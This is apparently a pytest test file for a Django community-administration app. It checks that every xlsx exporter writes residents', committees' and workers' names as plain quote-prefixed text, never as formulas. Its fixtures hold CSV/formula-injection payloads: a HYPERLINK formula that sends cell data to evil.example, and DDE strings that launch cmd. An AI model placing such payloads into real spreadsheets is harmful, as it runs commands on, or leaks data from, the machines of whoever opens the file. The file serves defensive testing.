"""Formula injection (issue 23, finding 3): what anyone typed — a resident's name, an address, a ledger note,
a committee's name, a worker's name — goes into every xlsx export as the text typed, never as a formula.
Each exporter writes hostile texts; every cell of every sheet is read back: no formula, the text intact."""

from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from community_admin.core import idnumbers, xlsx
from community_admin.dashboards.exporters import CommitteeExporter
from community_admin.dashboards.reports import documents
from community_admin.funding import services as funding_services
from community_admin.ledgers import selectors as ledger_selectors
from community_admin.ledgers import services as ledger_services
from community_admin.ledgers.models import LedgerBook
from community_admin.org.models import Committee
from community_admin.residents.exporters import PersonExporter
from community_admin.residents.models import Person
from community_admin.staff import services as staff_services
from tests.factories import HouseholdFactory, PersonFactory
from tests.funding.factories import report_policy
from tests.ledgers.conftest import install_catalogue
from tests.staff.factories import make_policy, make_worker

LINK = '=HYPERLINK("http://evil.example/?d="&J2,"点此")'
DDE = "=cmd|'/c calc'!A0"
HOSTILE = [LINK, DDE, "+SUM(1,1)", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
COMMITTEE = "=cmd|'/c calc'!A0社区"
PARTY = "@SUM(1+1)党支部"
STREET = "-1+1街道"


def cells_of(source) -> tuple[set[str], list]:
    """(every text in the workbook, the cells that are formulas); asserts every trigger text is quote-prefixed."""
    workbook = load_workbook(BytesIO(source) if isinstance(source, bytes) else source)
    texts, formulas = set(), []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas.append((sheet.title, c.coordinate, c.value))
                elif isinstance(c.value, str):
                    texts.add(c.value)
                    if c.value[:1] in xlsx.FORMULA_TRIGGERS:
                        assert c.quotePrefix, (sheet.title, c.coordinate, c.value)
    return texts, formulas


def assert_safe(source, *expected: str) -> set[str]:
    texts, formulas = cells_of(source)
    assert formulas == []
    assert set(expected) <= texts, set(expected) - texts
    return texts


@pytest.fixture
def hostile(world):
    """A1 and its street renamed; in A1, each hostile name twice: an old man (floating, every flag, a
    disability certificate) and a married woman of 30."""
    Committee.objects.filter(pk=world.committee_a1.pk).update(name=COMMITTEE, party_organisation=PARTY)
    world.street_a.name = STREET
    world.street_a.save()
    world.committee_a1.refresh_from_db()
    household = HouseholdFactory(committee=world.committee_a1, number="=1+1", building=DDE, unit="", room="")
    persons = []
    for n, name in enumerate(HOSTILE):
        persons.append(
            PersonFactory(
                household=household,
                name=name,
                id_number=idnumbers.make("370202", date(1940, 1, 1 + n), 2 * n + 1),
                status=Person.Status.FLOATING,
                phone="+8613800000000",
                party_member=True,
                veteran=True,
                registered_unemployed=True,
                minimum_allowance=True,
                disability_certificate=f"3702021940010{n}0012",
                disability_level=2,
            )
        )
        today = timezone.localdate()
        PersonFactory(
            household=household,
            name=name,
            id_number=idnumbers.make("370202", date(today.year - 30, 2, 1 + n), 2 * n + 2),
            marital_status=Person.Marital.MARRIED,
        )
    return persons


def test_the_registry_export(world, hostile, tmp_path):
    persons = Person.objects.filter(committee=world.committee_a1).select_related("household", "committee")
    path = PersonExporter(persons, sensitive=True).render(tmp_path / "registry.xlsx").path
    assert_safe(path, *HOSTILE, COMMITTEE, "=1+1", DDE, "+8613800000000")


def _entry_data(book: LedgerBook, person: Person, n: int) -> dict:
    data = {}
    for column in book.columns:
        kind = column["type"]
        if kind == "text":
            data[column["key"]] = HOSTILE[n % len(HOSTILE)].strip()[: column.get("max_length") or 200]
        elif kind == "number":
            data[column["key"]] = -300  # a negative number stays a number
        elif kind == "date":
            data[column["key"]] = timezone.localdate().isoformat()
        elif kind == "choice":
            data[column["key"]] = column["choices"][0]
        else:
            data[column["key"]] = person.pk
    return data


def test_every_ledger_book_export_manual_and_derived(world, hostile, tmp_path):
    books = install_catalogue()
    assert any(b.is_derived for b in books.values()) and any(not b.is_derived for b in books.values())
    for n, book in enumerate(books.values()):
        if not book.is_derived:
            ledger_services.entry_create(
                actor=world.bureau,
                book=book,
                committee=world.committee_a1,
                data=_entry_data(book, hostile[n % len(hostile)], n),
            )
        committees = ledger_selectors.book_committees(world.bureau, book).filter(pk=world.committee_a1.pk)
        path = tmp_path / f"{book.code}.xlsx"
        exporter = ledger_services.book_export(
            actor=world.bureau, book=book, committees=committees, period_key="", path=path
        )
        assert exporter.rows >= 1, book.code
        texts = assert_safe(path, COMMITTEE, STREET)
        if book.is_derived:
            assert set(HOSTILE) & texts, book.code  # the names
        else:
            has_text = any(c["type"] == "text" for c in book.columns)
            has_person = any(c["type"] == "person" for c in book.columns)
            assert not has_text or {h.strip() for h in HOSTILE} & texts, book.code
            assert not has_person or any(t.startswith(tuple(HOSTILE)) for t in texts), book.code
            numbers = [c for c in book.columns if c["type"] == "number"]
            if numbers:
                sheet = load_workbook(path).worksheets[0]
                values = [c.value for c in sheet[4]]
                assert -300 in values, book.code  # a number, not the text "-300"


def test_the_payroll_export(world, hostile):
    make_policy(2025)
    for name in (DDE, LINK[:50], "-2+3"):
        make_worker(world.bureau, world.committee_a1, name=name)
    payroll = staff_services.payroll_compute(
        actor=world.bureau, committee=world.committee_a1, year=2025, month=6
    )
    export = staff_services.payroll_export(actor=world.bureau, payroll=payroll)
    assert_safe(export.read_bytes(), DDE, LINK[:50], "-2+3", f"{COMMITTEE} 2025年6月社区工作者工资表")


def test_the_funding_comparison_export(world, hostile):
    year = timezone.localdate().year
    a = report_policy(world.bureau, year, name=DDE)
    b = report_policy(world.bureau, year, adopt=False, name=LINK[:60], per_household_beyond=Decimal("15"))
    export = funding_services.policy_comparison_export(actor=world.bureau, policy_a=a, policy_b=b)
    assert_safe(export.read_bytes(), COMMITTEE)


def test_the_committee_export(world, hostile, tmp_path):
    CommitteeExporter(Committee.objects.all()).write(tmp_path / "committees.xlsx")
    assert_safe(tmp_path / "committees.xlsx", COMMITTEE, PARTY, STREET)


def test_the_survey_report_workbook(world, hostile, tmp_path):
    path = tmp_path / "report.xlsx"
    documents.SurveyReportXlsx(year=timezone.localdate().year, user=world.bureau).write(path)
    assert_safe(path, STREET)
